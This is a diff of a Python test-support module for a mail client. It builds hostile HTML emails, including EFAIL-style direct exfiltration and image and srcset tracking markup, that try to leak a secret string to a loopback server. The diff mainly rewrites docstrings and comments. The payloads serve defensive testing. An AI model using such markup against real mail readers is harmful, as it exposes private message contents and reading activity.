@@ -1,4 +1,4 @@
-"""Mails that try to tell somebody that they were read, or what they say; and a server that would hear it."""
+"""Mails that try to send a request when they are read, or to leak their text, and a server that notes requests."""
 
 from __future__ import annotations
 
@@ -8,13 +8,13 @@ import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 
-from tests.browser.mail_letters import file, html, mail, multipart, text
+from tests.support.extension.mail_letters import file, html, mail, multipart, text
 
 SECRET = "the secret of the letter"
 
 
 class CountingServer:
-    """What a server on loopback was asked for."""
+    """A server on loopback. `asked`: the paths of its requests; `referrers`: their `Referer` fields."""
 
     def __init__(self, port: int) -> None:
         self.url = f"http://127.0.0.1:{port}"
@@ -24,7 +24,7 @@ class CountingServer:
 
 @contextmanager
 def counting_server() -> Iterator[CountingServer]:
-    """A server that answers everything with a small page and remembers what it was asked for."""
+    """Run a `CountingServer`, which answers all requests with a small page."""
 
     class Handler(http.server.BaseHTTPRequestHandler):
         def do_GET(self) -> None:
@@ -38,7 +38,7 @@ def counting_server() -> Iterator[CountingServer]:
         do_POST = do_GET
 
         def log_message(self, format: str, *args: object) -> None:
-            """Keep quiet."""
+            """Write no log."""
 
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
     counting = CountingServer(server.server_port)
@@ -53,9 +53,9 @@ def counting_server() -> Iterator[CountingServer]:
 
 
 def hostile_mails(url: str) -> dict[str, bytes]:
-    """Each by its attack; all of them say `SECRET` in a part that has markup."""
+    """The mails by their attack. Each contains `SECRET` in a part with markup; `url` is the attacker's server."""
     mails = {name: mail(html(f"<p>{SECRET}</p>{markup.replace('URL', url)}")) for name, markup in _MARKUP.items()}
-    # Direct exfiltration: the plaintext between an attribute's quotes that two other parts open and close.
+    # Direct exfiltration (EFAIL): one part opens the quotes of an attribute, the plaintext follows, another closes.
     before, after = html(f'<p>{SECRET}</p><img src="{url}/direct/'), html('"><p>end</p>')
     mails["direct"] = mail(multipart("mixed", html(f'<p>{SECRET}</p><img src="{url}/open/'), before, after))
     pointing = html(f'<p>{SECRET}</p><img src="cid:page@b"><iframe src="cid:page@b"></iframe>')
@@ -82,7 +82,7 @@ def hostile_mails(url: str) -> dict[str, bytes]:
     return mails
 
 
-# `URL` stands for the server; each begins with a paragraph of its own.
+# The attacks by markup. `URL` stands for the server's address.
 _MARKUP = {
     "pictures": (
         '<img src="URL/img"><img srcset="URL/a 1x, URL/b 2x"><picture><source srcset="URL/c"><img>'
